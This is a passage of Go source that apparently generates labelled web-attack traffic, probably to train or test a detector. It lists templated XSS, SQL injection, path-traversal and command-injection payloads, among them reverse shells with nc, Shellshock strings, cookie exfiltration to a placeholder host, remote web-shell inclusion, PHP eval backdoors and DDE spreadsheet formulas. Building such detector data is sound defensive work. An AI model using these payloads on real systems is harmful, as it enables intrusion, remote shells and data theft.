1~http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/`},
		{"xsMarkup", `
2~«mbrk»<a href="http://«chost»/">«word»</a>
2~«mbrk»<A HREF=//«chost»>«a3»</A>
1~«mbrk»<a href=http://«chost»/«a3» «slugword»
1~«mbrk»<a href=` + "``«slugnoun».exe``" + `>
1~«mbrk»<img src=http://«chost»/«a3».jpg height=«nnn» width=«nnn»>
1~«mbrk»<img src="http://«chost»/«tok»"
1~«mbrk»<font color=«hex8»><marquee behavior=alternate bgcolor=«slugword»>
1~«mbrk»<body background=http://«chost»/«a3».gif>
1~«mbrk»<iframe src=http://«chost»/«a3».html <
1~«mbrk»<iframe width=«nnn» height=«nnn» src=//«chost»></iframe>
1~«mbrk»<h1><blink>«word» «word»</blink></h1>
1~«mbrk»<center><h1>«word»</h1></center>
1~«mbrk»<plaintext>
1~«mbrk»<textarea>
1~«mbrk»<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:«slugword»">
1~«mbrk»<form action=http://«chost»/«a3» method=post><input name=«slugword»><input type=submit>
1~«mbrk»<form><input type=password name=«slugword»>
1~«mbrk»<meta http-equiv=refresh content="«n»;url=//«chost»/">
1~«mbrk»<meta http-equiv="set-cookie" content="«a6»=«tok»">
1~«mbrk»<base href=//«chost»/>
1~«mbrk»<link rel="stylesheet" href="http://«chost»/«a3».css">
1~«mbrk»<style>*{background:url(//«chost»/«a3»)}</style>
1~«mbrk»<input type="text" value="«word»" <
1~<«a3» «a1»="«n»"on«a3»=«n»
1~<![«a3» «a1»="«a1»">
1~"«a3»'«a3»</img
1~«mbrk»<!--[if gte IE «n»]><script>«js»</script><![endif]-->
1~<!--<img src="--><img src=x onerror=«js»//">
1~<? echo('<scr)'; echo('ipt>«js»</script>'); ?>
1~<?import namespace="«a1»" implementation="#default#«slugnoun»">
1~<xml id="«a1»"><i><b>&lt;img src="javas<!-- -->cript:«js»"&gt;</b></i></xml>`},
		{"mbrk", "5~\">\n4~'>\n2~∅\n1~</title>\n1~</a>\n1~<br>\n1~&«slugword»=\n1~'\"/>\n1~«slugword»\">\n1~/>\n1~</«tagn»>"},
		{"xsEnt", `
2~&lt;script&gt;«js»&lt;/script&gt;
2~&lt;script src=http&#58;//«chost»/«a3».js&gt;&lt;/script&gt;
1~&lt;img src=«a1» onerror=«js»&gt;
1~&lt;img src=&quot;javascript&#58;«js»&quot;&gt;
1~&lt;a href=\\"http&#58;//«chost»/\\"&gt;«word»&lt;/a&gt;
1~&lt;iframe src=http&#58;//«chost»/&gt;
1~&lt;body onload=«js»&gt;
1~&lt;meta http-equiv=\\"refresh\\" content=\\"0;url=javascript&#58;«js»\\"&gt;
1~&lt;style&gt;@im\\port'\\ja\\vasc\\ript&#58;«js»';&lt;/style&gt;
1~&lt;?import namespace=\\"«a1»\\" implementation=\\"#default#«slugnoun»\\"&gt;
1~&lt;!&#91;endif&#93;--&gt;
1~&lt;!--#exec cmd=\\"«ccmd»\\"--&gt;
1~&#60script&#62«js»&#60/script&#62
1~&#x3cscript&#x3e«js»&#x3c/script&#x3e
1~&#0000060script&#0000062«js»&#0000060/script&#0000062
1~&#60;
1~&#x3C;
1~&#x00003e;
1~&#0000060
1~&#62;&#60;
1~&lt;&lt;script&gt;
1~%26lt;script%26gt;«js»%26lt;/script%26gt;
1~\\u003cscript\\u003e«js»\\u003c/script\\u003e
1~\\x3cscript\\x3e«js»\\x3c/script\\x3e
1~\\74script\\76«js»\\74/script\\76`},
		{"xsCharset", `
2~\xbcscript\xbe«js»\xbc/script\xbe
1~\xbcscript\xbealert(\xa2«a3»\xa2)\xbc/script\xbe
1~+ADw-script+AD4-«js»+ADw-/script+AD4-
1~+ADw-«a3» src+AD0-«a1» onerror+AD0-«js»+AD4-
1~＜script＞«js»＜/script＞
1~《script》«js»《/script》
1~‹script›«js»‹/script›
1~㰀script㸀«js»㰀/script㸀
1~\xc0\xbcscript\xc0\xbe«js»\xc0\xbc/script\xc0\xbe
1~\0<script>«js»
1~<scr\0ipt>«js»</scr\0ipt>
1~<\0«tagn» «hev»=«js»>
1~<script\r\n>«js»</script\n>`},
		{"xsWord", `
1~eval('~'+'«a3»')
1~«a1»=eval;«a1»=alert;«a1»(«a1»(/«a3»/.source))
1~«a1»=alert;«a1»(«n»)
1~_=alert,_(«n»)
1~_=eval,__=unescape,___=document.URL,_(__(___))
1~this['ale'+'rt'](«n»)
1~window['al'+'ert'](«n»)
1~top[/al/.source+/ert/.source](«n»)
1~self['«a3»'+'«a3»'](document['coo'+'kie'])
1~(alert)(«n»)
1~[«n»].find(alert)
1~[«n»,«n»].map(confirm)
1~{valueOf:alert}+''
1~({toString:alert}+'')
1~throw onerror=alert,«n»
1~onerror=alert;throw «n»
1~setTimeout('«js»',«n»)
1~setInterval(alert,«nnn»)
1~new Function('«js»')()
1~Function("al"+"ert(«n»)")()
1~[]['filter']['constructor']('«js»')()
1~''['constructor']['constructor']('«js»')()
1~(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]
1~([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]+[])
1~[]["«a3»"]["constructor"]("«js»")()
1~$=~[];$={___:++$,$$$$:(![]+"")[$]}
1~/«a3»/.source+location.hash
1~location='java'+'script:'+'alert(«n»)'
1~location.href='//«chost»/'+document.cookie
1~document.write('<script src=//«chost»></'+'script>')
1~document.write(unescape('%253Cscript%253E«js»%253C/script%253E'))
1~document['body'].innerHTML='<img src=«a1» onerror=«js»>'
1~String.fromCharCode(«nn»,«nn»,«nn»,«nn»)
1~«a1»=['java' '' 'scr' 'ipt:' 'aler' 't(«n»)'];
1~'});}catch(e){}«js»;try{(«a1»={'«a3»':'«a1»
1~"+«js»+"
1~«a3»;}«js»;function «a1»(){
1~width:expression(«js»)
1~width: \\0065\\0078\\0070\\0072\\0065\\0073\\0073\\0069\\006f\\006e(«js»)
1~background-image:url("javascript:«js»")
1~-moz-binding:url(http://«chost»/«a3».xml#«a1»)
1~*{}body{background:red}
1~//«chost»/@⒕₨
1~//«chost»/«a3»`},
		{"cbin", "4~/usr/bin/id\n2~/bin/id\n2~/bin/ls -al\n1~/bin/ls\n1~/bin/cat /etc/passwd\n1~/usr/bin/whoami\n1~/bin/uname -a\n1~/sbin/ifconfig\n1~/bin/ps aux\n1~/usr/bin/env\n1~/usr/bin/curl http://«chost»/\n1~/bin/sh -c «a3»\n1~/bin/echo «hex8»\n1~id\n1~whoami\n1~ping -n «nn» 127.0.0.1\n1~ping -i «nn» 127.0.0.1\n1~ping -c «n» «chost»\n1~ping localhost -i «n»\n1~timeout «nn»\n1~sleep «nn»\n1~dir c:\\\n1~ipconfig /all\n1~netstat -an\n1~«ccmd»"},
		{"cmAbs", `
3~«csep»«cbin»
2~«cbin»|
2~«cbin»;
2~«cbin»\\n
2~\\n«cbin»\\n
1~\\n«cbin»;
1~\\n«cbin»|
1~%0a«cbin»%0a
1~%0a«cbin»
2~& «cbin» &
2~| «cbin» |
1~; «cbin» ;
1~|| «cbin» ||
1~&& «cbin»
1~$ | «cbin»
1~$;«cbin»
1~$&&«cbin»
1~a;«cbin»;
1~«slugword»;«cbin»|
1~«n»;«cbin»
1~;«cbin»\\n
1~|«cbin»|
1~|«cbin»'
1~<!--#exec cmd="«cbin»"-->
1~<«cbin»\\n
1~<«cbin»%0a
1~` + "`«cbin»`" + `
1~'«csep»«cbin»«csep»'
1~");system('«cbin»
1~«slugword» '«csep»«cbin»
1~-1|«cbin»
1~../../../../..«cbin»|
1~/../../../..«cbin»
1~nc «chost» «n4» -e /bin/sh
1~nc -lvvp «n4» -e /bin/bash
1~«a6».«a3»-«big»|id
1~«n» |type \\boot.ini
1~type %SYSTEMROOT%\\win.ini
1~|sleep «n» #
1~&&sleep «n»&&
1~;system('«cbin»')
1~;print(system("«cbin»"))
1~exec("«cbin»")
1~eval('«cbin»')
1~eval("puts '«word»'")
1~Kernel.exit(«n»)
1~«n»|system(id)|`},
		{"cmVar", `
1~() { :;}; echo «a3»
1~() { :; }; /bin/bash -c "«ccmd»"
1~() { _; } >_[$($())] { «ccmd»; }
1~«a3»='() { echo "«word»"; }' bash -c '«a3»'
1~Cookie: () { :; }; «ccmd»
1~$HOME
1~$PATH
1~${PATH}
1~$ENV{'HOME'}
1~$(echo $PATH)
1~${HOME:0:1}etc${HOME:0:1}passwd
1~%SYSTEMROOT%
1~%COMSPEC% /c dir
1~` + "`echo $USER`" + `
1~"; «ccmd» ; echo "
1~' ; «ccmd» ; echo '
1~<%` + "`«ccmd»`" + `%>
1~+++ATH0
1~#{` + "`«ccmd»`" + `}
1~"|«ccmd»|"
1~$(<«cfile»)
1~<(«ccmd»)
1~{"cmd":"«ccmd»"}
1~@«ccmd»`},
		// Remote files to be included: the question mark swallows what the
		// program appends.
		{"outhost", `
4~«nn».1«nn».«nn».1«nn»
3~«nn».1«nn».«nn».«nn»:80«nn»
1~1«nn».«nn».«n».2«n»:«n4»
2~«chost»
1~«a6».example.net
1~«slugnoun».example.org/~«slugname»`},
		{"outfile", `
4~/«a6».txt
3~/«tok»
2~/«a3».php
2~/shell.txt
1~/«a6»/«a3».jpg
1~/c99.txt
1~/r57.gif
1~/id.txt
1~/
1~/«slugword»/cmd.txt
1~/«a3».dat`},
		{"ptRemote", `
6~http://«outhost»«outfile»?
4~http://«outhost»«outfile»
3~http://«outhost»«outfile»??
2~https://«outhost»«outfile»?
1~http://«outhost»«outfile»%00
1~http://«outhost»«outfile»?%00
1~http://«outhost»«outfile»%3F
1~ftp://«outhost»«outfile»
1~ftp://«slugname»:«a6»@«outhost»«outfile»
1~//«outhost»«outfile»?
1~hTtP://«outhost»«outfile»?
1~http:%2f%2f«outhost»«outfile»%3f
1~http://«outhost»«outfile»?&cmd=id
1~http://«outhost»«outfile»?«slugword»=
1~\\«outhost»\«a3»\«a3».php
1~http://«outhost»«outfile»%23`},
		{"ptNear", `
3~../«slugword».inc
2~../config.php
2~../«slugnoun»/config.inc.php
2~../../«slugnoun».log
1~../«slugnoun»/«slugword»
1~..\«slugnoun».ini
1~../../web.config
1~./../«slugword».xml
1~../%00
1~../index.php%00
1~«slugnoun».php%00
1~WEB-INF/web.xml
1~/WEB-INF/web.xml
1~../WEB-INF/classes/
1~../../../
1~..
1~../../.env
1~../.git/config
1~0x2e0x2e/0x2e0x2e/«ptFile»
1~0x2e0x2e\0x2e0x2e\«ptFile»
1~%%32%65%%32%65/«ptFile»
1~.?/.?/«ptFile»
1~..//..//«ptFile»
1~..\/..\/«ptFile»`},
		// Commands whose answer nobody sees: a file to make or to remove.
		{"bsep", "4~«sq»&\n3~«sq»;\n2~«sq»|\n2~&\n1~«sq»\n1~«sq»\\n\n1~;\n1~|\n1~«sq»&&\n1~%0a\n1~∅"},
		{"bsp", "6~ \n3~\t\n1~%0b\n1~%0c\n1~%09\n1~,\n1~\u00a0\n1~$IFS\n1~+"},
		{"bcmd", "3~rm\n3~del\n2~ver\n2~uname\n2~touch\n1~erase\n1~type\n1~hostname\n1~ls\n1~dir\n1~id\n1~mkdir\n1~echo\n1~set\n1~env"},
		{"cmBlind", `
4~«bsep»«bcmd»«bsp»«a1»«n6»«bsp»#
3~«bsep»«bcmd»«bsp»>«a1»«n6»«bsp»#
3~«bsep»«bcmd»«bsp»«a1»«n6»
2~«bsep»«bcmd»&rem
2~«bsep»«bcmd»«bsp»>«a1»«n6»&rem«bsp»
2~«bsep»«bcmd»«bsp»«a6»«bsp»&«sq»
1~«bsep»«bcmd»«bsp»-w«bsp»«n»«bsp»«nn».«n».«n».«nn»«bsp»&
1~«bsep»«bcmd»«bsp»/tmp/«a6»
1~«bsep»«bcmd»«bsp»>>«bsp»/tmp/«a3»«bsp»#
1~«bsep»«bcmd»;`},
		{"cmPhp", `
2~phpinfo()
2~phpinfo();
1~;phpinfo();
1~assert($_POST[«a1»])
1~assert('phpinfo()')
1~${@print(md5(«n6»))}
1~{${phpinfo()}}
1~print(md5(«n6»));
1~die(md5(«n6»))
1~-d allow_url_include=on -d auto_prepend_file=php://input
1~-d+allow_url_include%3don+-d+safe_mode%3doff
1~echo(«nn»*«nn»);
1~var_dump(«n4»+«n4»)
1~@eval($_REQUEST['«a1»']);
1~call_user_func('system','«ccmd»')
1~response.write(«n4»*«n4»)
1~print(«n4»+«n4»)
1~gethostbyname(trim('«a6».example.net'))`},
		// Programs in C and in spreadsheets, lines of mail, redirections.
		{"fmt1", "%n\n%x\n%s\n%p\n%08x\n%d\n%.16705u\n%hn"},
		{"fmts", "2~«fmtr»\n1~«fmt1»«fmt1»«fmt1»«fmt1»\n1~«fmt1».«fmt1».«fmt1».«fmt1»\n1~«fmts»«fmts»\n1~AAAA«fmts»\n1~«a3»«fmts»\n1~«fmt1»-«fmt1»-«fmt1»\n1~%«nn»$«a1»%n"},
		{"fmtr", "%s%s%s%s%s\n%n%n%n%n\n%x%x%x%x%x%x\n%x.%x.%x.%x\n%08x.%08x.%08x.%08x\n%p%p%p%p\n%p %p %p %p\n%d%d%d%d\n%s%p%x%d\n%08x%08x%08x%n\n%.1024d%n\n%99999999s\n%«n»$s\n%!s(%n)"},
		{"rep8", "4~AAAAAAAA\n1~aaaaaaaa\n1~XXXXXXXX\n1~00000000\n1~99999999\n1~%00%00%00%00\n1~........\n1~((((((((\n1~[[[[[[[["},
		{"repA", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
		{"rep1", "11111111111111111111111111111111111111111111111111111111111111111"},
		{"run32", "«repA»\nXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX\naaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\nBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB\n«rep1»\nzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"},
		{"longs", "2~«run32»\n2~«repA»«repA»\n3~«repA»«repA»«repA»\n2~«repA»«repA»«repA»«repA»«repA»«repA»«repA»«repA»\n1~«rep1»«rep1»«rep1»«rep1»\n1~«run32»«tok»\n1~«longs»«longs»\n1~«slugword»«repA»«repA»"},
		{"oxMem", "4~«fmts»\n3~«longs»\n1~«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»«rep8»"},
		{"oxSheet", `
1~=cmd|' /C «ccmd»'!A0
1~=HYPERLINK("http://«chost»/?x="&A«n»,"«word»")
1~@SUM(1+«n»)*cmd|' /C calc'!A0
1~+cmd|'/c calc'!A«n»
1~=IMPORTXML(CONCAT("http://«chost»/?v=",A«n»),"//a")
1~-«n»+«n»+cmd|' /C «ccmd»'!A0
1~=DDE("cmd";"/C calc";"«a3»")
1~=WEBSERVICE("http://«chost»/"&A«n»)`},
		{"oxMail", `
3~%0aBcc:%20«slugname»@«chost»
2~«slugname»@«slugnoun».example%0aCc:«slugname»@«chost»
2~%0d%0aTo:%20«slugname»@«chost»%0d%0aSubject:%20«word»
1~«word»%0aContent-Type:text/html%0a%0a<b>«word»</b>
1~%0ABcc:«a6»@«chost»%0A%0A«word»
1~«slugname»%0D%0ARCPT%20TO:«slugname»@«chost»%0D%0ADATA`},
		{"oxAway", `
2~/\«chost»
2~https:«chost»
2~//«chost»/%2e%2e
1~////«chost»
1~https:///«chost»
1~http:/\/\«chost»
1~\/\/«chost»/
1~//«chost»/%2f..
1~https://«slugnoun».example.com@«chost»/
1~https://«slugnoun».example.com%40«chost»
1~//«chost»%E3%80%82com
1~/%09/«chost»
1~/%5c«chost»
1~javascript://«chost»/%0aalert(«n»)
1~<>//«chost»`},
		{"oxInclude", `
2~<esi:include src="http://«chost»/«a3»"/>
1~<esi:include src=/«slugword»/ stylesheet="http://«chost»/«a3».xsl"/>
1~<!--esi <esi:vars>$(HTTP_COOKIE)</esi:vars>-->
1~<esi:debug/>
1~<xsl:value-of select="system-property('xsl:vendor')"/>
1~<xsl:include href="http://«chost»/«a3».xsl"/>
1~«a3»\nsystem\n(S'«ccmd»'\ntR.
1~cos\nsystem\n(S'«ccmd»'\ntR.
1~!!javax.script.ScriptEngineManager [!!java.net.URL ["http://«chost»/"]]
1~{"__proto__":{"«slugword»":true}}
1~{"constructor":{"prototype":{"isAdmin":true}}}
1~constructor.prototype.«slugword»=true
1~__proto__.«slugword»=«n»`},
		{"xsPlain", `
3~«brk»<meta http-equiv=set-cookie content="«a6»=«n4»">
2~<h1>«word»</h1>
1~<h1>«word» by «slugname»</h1>
1~<div style="font-family:'«a3»&#10;;color:red;';">«word»
1~<rect fill="white" style="clip-path:url(«a3».svg#a);fill:url(#b)"/>
1~<a href="//«slugword»">«word»</a>
1~&lt;A HREF="//«slugword»"&gt;«word»&lt;/A&gt;
1~&#«n4»;
1~&#0000«nn»;&#0000«nnn»;
1~<plaintext>
1~"><plaintext>
1~<«a3»>«word»
1~<xss>
1~<u>«a6»</u>«a3»
1~"><b>«a6»
1~<s>«a6»
1~<font size=«nn»>«word»</font>
1~<b/«a3»>
1~<xml id=«a1»><«a1»><b>«word»</b></«a1»></xml>
1~<br size="&{«js»}">
1~<layer src="http://«chost»/«a3».js"></layer>`},
		{"sqOdd", `
1~«n» like «n»
1~«n» div 0
1~«n»e0union select «svs»
1~«n».union select «svs»
1~«slugname»' #
1~«n»' like '«n»
1~«sq»select
1~«slugword»«sq»select
1~«n»'='«n»
1~«sq»and«sq»
1~«n»«sq»«a1»
1~«n» mod 0
1~«n» regexp 1
1~«n» sounds like «n»
1~«n»' collate «a3»--
1~«sq» is null
1~«n») limit 1--
1~«n»,(select «n»)
1~«n» as «a1»
1~ascii(«a1»)
1~'*«n»*'
1~'^«n»^'
1~'%«n»%'
1~'|«n»|'
1~«n»&«n»=«n»`},
	}
}

// moreTechniques adds the techniques of moreRules.
func (p *payloads) moreTechniques(id func(string) int) {
	add := func(l traffic.Label, rawly bool, names ...string) {
		for _, n := range names {
			p.byLabel[l] = append(p.byLabel[l], technique{rule: id(n), rawly: rawly})
		}
	}
	add(traffic.SQLInjection, false, "sqPg", "sqMs", "sqOra", "sqLite", "sqEvade", "sqClause", "sqQuiet", "sqQuiet", "sqShort", "sqState", "sqState", "sqOr", "sqOr", "sqProbe")
	add(traffic.XSS, false, "xsObf", "xsFrame", "xsLong", "xsShort", "xsEvent", "xsMarkup", "xsMarkup", "xsEnt", "xsWord", "xsWord", "xsCharset")
	add(traffic.PathTraversal, true, "ptWrap", "ptTail", "ptTail")
	add(traffic.CommandInjection, false, "cmShort", "cmWin", "cmEvade", "cmPipe", "cmTmpl2", "cmTmpl2", "cmAbs", "cmAbs", "cmVar")
	add(traffic.OtherAttack, false, "oxNo", "oxDir", "oxProto", "oxInner", "oxInner")
	add(traffic.OtherAttack, false, "oxGo", "oxMem", "oxSheet", "oxInclude", "oxAway")
	add(traffic.OtherAttack, true, "oxMail")
	add(traffic.PathTraversal, true, "ptRemote", "ptRemote", "ptNear")
	add(traffic.CommandInjection, false, "cmBlind", "cmBlind", "cmPhp")
	add(traffic.XSS, false, "xsPlain")
	add(traffic.SQLInjection, false, "sqOdd")
}
